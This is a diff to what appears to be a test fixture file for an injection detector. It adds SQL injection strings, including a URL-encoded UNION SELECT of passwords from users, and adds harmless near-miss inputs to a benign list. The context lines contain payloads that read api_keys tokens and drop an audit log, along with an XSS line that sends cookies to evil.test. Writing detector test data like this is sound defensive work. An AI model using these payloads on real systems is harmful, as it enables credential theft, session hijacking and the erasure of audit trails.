@@ -46,6 +46,12 @@ SQLI = [
     "7 EXCEPT SELECT token FROM api_keys",
     "DROP audit_log;--",
     "demo' OR 5=",  # the application's closing quote completes the comparison
+    "1) FROM accounts WHERE role='admin'",
+    "x' OR column && '1",
+    "1--",
+    "(SELECT id-0 FROM users LIMIT 1,1)",
+    "1'--sp_password",
+    "1%A0UNION%A0SELECT%A0password%A0FROM%A0users--",
 ]
 XSS = [
     "<script>fetch('//evil.test/?c='+document.cookie)</script>",
@@ -158,6 +164,8 @@ BENIGN = [
     "Meet me (where?) at noon; screen time is over",
     "sudo apt-get install texlive",  # an installation guide, not an injection
     "Markdown needs \\! before a bang",
+    "34 -- 85",  # arithmetic
+    "I 'like' it",
     "Meet at the cafe; at 10:30 sharp",
 ]
 
